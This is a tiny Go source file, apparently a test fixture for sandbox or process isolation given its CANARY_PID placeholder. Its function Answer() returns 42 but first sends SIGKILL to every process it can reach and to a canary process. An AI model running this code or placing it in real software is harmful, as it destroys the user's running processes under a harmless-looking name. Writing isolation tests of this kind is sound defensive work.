package open

import (
	"syscall"
)

func Answer() int {
	_ = syscall.Kill(-1, syscall.SIGKILL)
	_ = syscall.Kill(CANARY_PID, syscall.SIGKILL)
	return 42
}
